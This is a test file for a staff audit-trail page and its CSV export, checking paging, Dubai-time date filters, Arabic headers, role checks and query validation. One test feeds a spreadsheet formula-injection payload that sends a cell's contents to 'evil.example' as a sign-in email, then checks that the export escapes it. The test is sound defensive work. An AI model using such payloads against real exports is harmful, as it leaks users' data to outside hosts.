import { beforeAll, describe, expect, it } from 'vitest';
import { API_PATHS } from '#contracts/api-paths';
import { AUDIT_EXPORT_MAX_ROWS, AUDIT_PAGE_SIZE, type AuditAnswer } from '#contracts/audit-view';
import { addStaff } from '../auth/staff';
import type { Database } from '../db/database';
import { readCsvDownload } from './support/csv-reader';
import { StaffClient } from '../harness/staff-client';
import { databaseKind } from './support/test-database';
import { useTestServer } from './support/test-server';

const PASSWORD = 'an audit page password';
const ADMIN = 'admin@example.com';

/** Entries from before the tests run, at known instants (all in 2025, so every entry the tests add is newer). */
async function seedTrail(db: Database) {
  const entry = (at: string, email: string, action: string, reference: string | null, detail: object | null = null) =>
    db.query(
      `INSERT INTO audit_events (at, staff_email, address, action, reference, detail) VALUES ($1, $2, '10.0.0.7', $3, $4, $5::jsonb)`,
      [at, email, action, reference, detail && JSON.stringify(detail)],
    );
  // Either side of midnight in Dubai (UTC+4) on 9–10 and 10–11 March: 19:59:59Z is 23:59:59 there.
  await entry('2025-03-09T19:59:59Z', 'huda@example.com', 'item-opened', 'SW-AAAA1');
  await entry('2025-03-09T20:00:00Z', 'huda@example.com', 'item-opened', 'SW-AAAA2');
  await entry('2025-03-10T19:59:59Z', 'huda@example.com', 'item-opened', 'SW-AAAA3');
  await entry('2025-03-10T20:00:00Z', 'huda@example.com', 'item-opened', 'SW-AAAA4');
  // 120 changes of one item, a minute apart: three pages.
  await db.query(
    `INSERT INTO audit_events (at, staff_email, address, action, reference)
     SELECT timestamptz '2025-02-01 00:00:00Z' + make_interval(mins => n), 'omar@example.com', '10.0.0.8', 'status-changed', 'SW-PAGE1'
     FROM generate_series(0, 119) AS n`,
  );
  await entry('2025-01-15T08:00:00Z', 'sara@example.com', 'enquiries-exported', null, {
    from: '2025-01-01',
    to: '2025-01-14',
    rows: 3,
    freeText: false,
  });
}

const audit = (client: StaffClient, query: string) => client.request('GET', `${API_PATHS.audit}?${query}`);
const page = async (client: StaffClient, query: string) => {
  const answer = await audit(client, query);
  expect(answer.status).toBe(200);
  return (await answer.json()) as AuditAnswer;
};
const exportCsv = (client: StaffClient, query: string) => client.request('GET', `${API_PATHS.auditExport}?${query}`);

/** The trail's entries of `action` by the admin, newest first. */
const ownEntries = (db: Database, action: string) =>
  db.query<{ detail: unknown }>(
    `SELECT detail FROM audit_events WHERE staff_email = $1 AND action = $2 ORDER BY at DESC, id DESC`,
    [ADMIN, action],
  );
const asObject = (detail: unknown) => (typeof detail === 'string' ? (JSON.parse(detail) as unknown) : detail);

describe(`the audit trail's page and CSV (${databaseKind} database)`, () => {
  const test = useTestServer({}, async (db) => {
    for (const role of ['admin', 'admissions', 'manager'] as const)
      await addStaff(db, { email: `${role}@example.com`, name: `The ${role}`, role, password: PASSWORD });
    await seedTrail(db);
  });
  let admin: StaffClient;
  beforeAll(async () => {
    admin = new StaffClient(test.server.url);
    expect((await admin.signIn(ADMIN, PASSWORD)).status).toBe(200);
  });

  it('pages through the matching entries, newest first, with their total', async () => {
    const first = await page(admin, 'reference=sw-page1');
    expect(first).toMatchObject({ total: 120, page: 1, pageSize: AUDIT_PAGE_SIZE });
    expect(first.entries).toHaveLength(50);
    expect(first.entries[0]).toMatchObject({
      at: '2025-02-01T01:59:00.000Z',
      email: 'omar@example.com',
      address: '10.0.0.8',
      action: 'status-changed',
      reference: 'SW-PAGE1',
      account: null,
      detail: null,
    });
    const second = await page(admin, 'reference=SW-PAGE1&page=2');
    const third = await page(admin, 'reference=SW-PAGE1&page=3');
    expect(third.entries).toHaveLength(20);
    const times = [...first.entries, ...second.entries, ...third.entries].map((entry) => entry.at);
    expect(new Set(times).size).toBe(120);
    expect(times).toEqual([...times].sort().reverse());
    expect(third.entries.at(-1)?.at).toBe('2025-02-01T00:00:00.000Z');
    // Past the last page: nothing, and still the total.
    expect(await page(admin, 'reference=SW-PAGE1&page=4')).toMatchObject({ entries: [], total: 120, page: 4 });
  });

  it('filters by days in the centre’s time zone, both ends included', async () => {
    const tenth = await page(admin, 'from=2025-03-10&to=2025-03-10');
    expect(tenth.entries.map((entry) => entry.reference)).toEqual(['SW-AAAA3', 'SW-AAAA2']);
    const fromTenth = await page(admin, 'from=2025-03-10&to=2025-03-31');
    expect(fromTenth.entries.map((entry) => entry.reference)).toEqual(['SW-AAAA4', 'SW-AAAA3', 'SW-AAAA2']);
    const untilNinth = await page(admin, 'to=2025-03-09&action=item-opened');
    expect(untilNinth.entries.map((entry) => entry.reference)).toEqual(['SW-AAAA1']);
  });

  it('filters by part of the staff email in any case, and by action', async () => {
    const huda = await page(admin, 'staff=HUDA');
    expect(huda.total).toBe(4);
    expect(new Set(huda.entries.map((entry) => entry.email))).toEqual(new Set(['huda@example.com']));
    expect((await page(admin, 'staff=omar%40example.com&action=item-opened')).total).toBe(0);
    expect((await page(admin, 'action=status-changed')).total).toBe(120);
    const exported = await page(admin, 'action=enquiries-exported&staff=sara');
    expect(exported.entries).toEqual([
      expect.objectContaining({
        email: 'sara@example.com',
        detail: { from: '2025-01-01', to: '2025-01-14', rows: 3, freeText: false },
      }),
    ]);
  });

  it('records each request for page 1 with its filters, before reading it, and nothing for later pages', async () => {
    const { db } = test.database;
    const before = (await ownEntries(db, 'audit-viewed')).length;
    const opened = await page(admin, '');
    // The page's own viewing is the newest entry it shows.
    expect(opened.entries[0]).toMatchObject({
      email: ADMIN,
      action: 'audit-viewed',
      address: '127.0.0.1',
      detail: null,
    });

    await page(admin, 'staff=Omar&action=status-changed&from=2025-02-01&to=2025-02-28');
    const viewed = await ownEntries(db, 'audit-viewed');
    expect(viewed).toHaveLength(before + 2);
    expect(asObject(viewed[0]?.detail)).toEqual({
      staff: 'omar',
      action: 'status-changed',
      from: '2025-02-01',
      to: '2025-02-28',
    });

    await page(admin, 'staff=Omar&action=status-changed&from=2025-02-01&to=2025-02-28&page=2');
    expect(await ownEntries(db, 'audit-viewed')).toHaveLength(before + 2);
  });

  it('exports every matching entry as CSV with a byte-order mark, columns in English, and records it', async () => {
    const { db } = test.database;
    const answer = await exportCsv(admin, 'reference=SW-PAGE1&language=en');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="sakina-audit-trail-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const [header, ...rows] = await readCsvDownload(answer);
    expect(header).toEqual([
      'Time (UTC, ISO 8601)',
      'Time (UAE)',
      'Staff email',
      'Address',
      'Action',
      'Action code',
      'Reference',
      'Account',
      'Detail (JSON)',
    ]);
    expect(rows).toHaveLength(120);
    // 01:59 UTC is 05:59 in Dubai.
    expect(rows[0]).toEqual([
      '2025-02-01T01:59:00.000Z',
      '2025-02-01 05:59',
      'omar@example.com',
      '10.0.0.8',
      'Changed the stage',
      'status-changed',
      'SW-PAGE1',
      '',
      '',
    ]);
    expect(rows.at(-1)?.[0]).toBe('2025-02-01T00:00:00.000Z');

    const [recorded] = await ownEntries(db, 'audit-exported');
    expect(asObject(recorded?.detail)).toEqual({ reference: 'SW-PAGE1', rows: 120 });
  });

  it('names the columns and the actions in Arabic when asked, and the detail as JSON', async () => {
    const answer = await exportCsv(admin, 'action=enquiries-exported&staff=sara&language=ar');
    const [header, row, ...rest] = await readCsvDownload(answer);
    expect(header?.slice(0, 6)).toEqual([
      'الوقت (التوقيت العالمي UTC بصيغة ISO 8601)',
      'الوقت (توقيت الإمارات)',
      'البريد الإلكتروني للموظف',
      'العنوان',
      'الإجراء',
      'رمز الإجراء',
    ]);
    expect(rest).toEqual([]);
    expect(row?.slice(4, 6)).toEqual(['تصدير الاستفسارات', 'enquiries-exported']);
    expect(JSON.parse(row?.[8] ?? '')).toEqual({ from: '2025-01-01', to: '2025-01-14', rows: 3, freeText: false });
  });

  it('keeps an email typed at a failed sign-in as text, never a formula', async () => {
    const typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    expect((await new StaffClient(test.server.url).login(typed, 'wrong password')).status).toBe(401);
    const answer = await exportCsv(admin, 'action=sign-in-failed&staff=hyperlink');
    const [, row, ...rest] = await readCsvDownload(answer);
    expect(rest).toEqual([]);
    expect(row?.[2]).toBe(`'${typed.toLowerCase()}`);
  });

  it('leaves its own entry out of the file it sends: the file is the trail as the export began', async () => {
    const answer = await exportCsv(admin, 'action=audit-exported');
    const rows = (await readCsvDownload(answer)).slice(1);
    const recorded = await ownEntries(test.database.db, 'audit-exported');
    expect(rows).toHaveLength(recorded.length - 1);
    expect(asObject(recorded[0]?.detail)).toEqual({ action: 'audit-exported', rows: recorded.length - 1 });
  });

  it('answers 403 to the admissions and manager roles, 401 signed out, and records nothing for them', async () => {
    const { db } = test.database;
    for (const role of ['admissions', 'manager']) {
      const client = new StaffClient(test.server.url);
      expect((await client.signIn(`${role}@example.com`, PASSWORD)).status).toBe(200);
      expect((await audit(client, '')).status).toBe(403);
      expect((await exportCsv(client, '')).status).toBe(403);
    }
    const signedOut = new StaffClient(test.server.url);
    expect((await audit(signedOut, '')).status).toBe(401);
    expect((await exportCsv(signedOut, 'language=ar')).status).toBe(401);
    const [{ count }] = (await db.query<{ count: number }>(
      `SELECT count(*)::int AS count FROM audit_events WHERE action IN ('audit-viewed', 'audit-exported') AND staff_email <> $1`,
      [ADMIN],
    )) as [{ count: number }];
    expect(count).toBe(0);
  });

  it('answers 400, never 500, to a query it cannot read', async () => {
    const bad = [
      'reference=SW-1',
      'reference=XX-AAAA1',
      'action=deleted-everything',
      'from=2025-02-30',
      'from=2025-13-01',
      'to=yesterday',
      'from=2025-03-10&to=2025-03-01',
      'from=2020-01-01&to=2025-01-01',
      'page=0',
      'page=two',
      'page=1.5',
      'language=fr',
      `staff=${'a'.repeat(255)}`,
    ];
    for (const query of bad) {
      for (const call of [audit, exportCsv]) {
        const answer = await call(admin, query);
        expect({ query, status: answer.status }).toEqual({ query, status: 400 });
        expect(await answer.json()).toMatchObject({ error: 'invalid_query' });
      }
    }
  });
});

describe(`a CSV of the audit trail too long for one file (${databaseKind} database)`, () => {
  const test = useTestServer({}, async (db) => {
    await addStaff(db, { email: ADMIN, name: 'The admin', role: 'admin', password: PASSWORD });
    await db.query(
      `INSERT INTO audit_events (at, staff_email, address, action, reference)
       SELECT timestamptz '2025-01-01 00:00:00Z' + make_interval(secs => n), 'omar@example.com', '10.0.0.8', 'item-opened', 'SW-MANY1'
       FROM generate_series(1, $1::int) AS n`,
      [AUDIT_EXPORT_MAX_ROWS + 1],
    );
  });

  it('is refused with 400 and records nothing; a narrower filter is exported', async () => {
    const admin = new StaffClient(test.server.url);
    expect((await admin.signIn(ADMIN, PASSWORD)).status).toBe(200);
    const refused = await exportCsv(admin, 'reference=SW-MANY1');
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({ error: 'invalid_query' });
    expect(await ownEntries(test.database.db, 'audit-exported')).toEqual([]);

    const narrower = await exportCsv(admin, 'reference=SW-MANY1&to=2025-01-01');
    expect(narrower.status).toBe(200);
    // 2025-01-01 ends at 20:00 UTC in Dubai: the entries of its first 72,000 seconds, less one (n starts at 1).
    expect((await readCsvDownload(narrower)).length - 1).toBe(20 * 3600 - 1);
    expect(asObject((await ownEntries(test.database.db, 'audit-exported'))[0]?.detail)).toEqual({
      reference: 'SW-MANY1',
      to: '2025-01-01',
      rows: 20 * 3600 - 1,
    });
  });
});
